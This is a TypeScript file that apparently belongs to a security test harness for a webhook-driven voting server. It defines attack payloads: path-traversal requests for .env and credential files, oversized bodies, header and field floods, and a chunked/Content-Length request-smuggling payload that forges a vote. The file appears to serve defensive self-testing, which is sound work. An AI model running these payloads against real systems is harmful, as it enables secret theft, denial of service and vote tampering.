import { type Attack, forgedParameters, postForm } from './attack';

const megabyte = 1024 * 1024;

/** Attacks on what stands around the handler: files, limits, the HTTP parser. */
export const serverAttacks: Attack[] = [
  {
    name: 'private-asset',
    title: 'read a private asset',
    goal: 'read',
    needs: 'url',
    build: () => ['/event.json', '/event.private.json', '/assets/event.private.json'].map(get),
  },
  {
    name: 'source-and-secrets',
    title: 'read source, .env and dot files',
    goal: 'read',
    needs: 'url',
    build: () =>
      ['/.env', '/../.env', '/%2e%2e/.env', '/.ringtrue/credentials.json', '/package.json'].map(get),
  },
  {
    name: 'big-body',
    title: 'a body of 2 MB',
    goal: 'overload',
    needs: 'url',
    build: ({ target, accountSid }) => [
      postForm(target, [...forgedParameters({ text: '', accountSid }), ['Filler', 'a'.repeat(2 * megabyte)]]),
    ],
  },
  {
    name: 'many-headers',
    title: '200 headers',
    goal: 'overload',
    needs: 'url',
    build: ({ target, accountSid }) => [
      postForm(
        target,
        forgedParameters({ text: '', accountSid }),
        Array.from({ length: 200 }, (_, index): [string, string] => [`X-Filler-${index}`, 'x']),
      ),
    ],
  },
  {
    name: 'many-fields',
    title: 'a form of 50,000 fields under a malformed signature',
    goal: 'overload',
    needs: 'url',
    misshapen: true,
    build: ({ target }) => [
      postForm(
        target,
        Array.from({ length: 50_000 }, (_, index): [string, string] => [`f${index}`, '1']),
        [['X-Twilio-Signature', 'no signature']],
      ),
    ],
  },
  {
    name: 'smuggling',
    title: 'two lengths, to smuggle a second request',
    goal: 'vote',
    needs: 'url',
    build: ({ target, ...message }) => {
      const { headers, body } = postForm(target, forgedParameters(message));
      const hidden = [
        `POST ${target} HTTP/1.1`,
        'Host: localhost',
        ...headers.map(([name, value]) => `${name}: ${value}`),
        `Content-Length: ${Buffer.byteLength(String(body))}`,
        '',
        String(body),
      ].join('\r\n');
      const around = `0\r\n\r\n${hidden}`;
      return [
        {
          method: 'POST',
          target,
          headers: [
            ['Content-Length', String(Buffer.byteLength(around))],
            ['Transfer-Encoding', 'chunked'],
          ],
          body: around,
        },
      ];
    },
  },
];

function get(target: string) {
  return { method: 'GET', target, headers: [], body: '' };
}
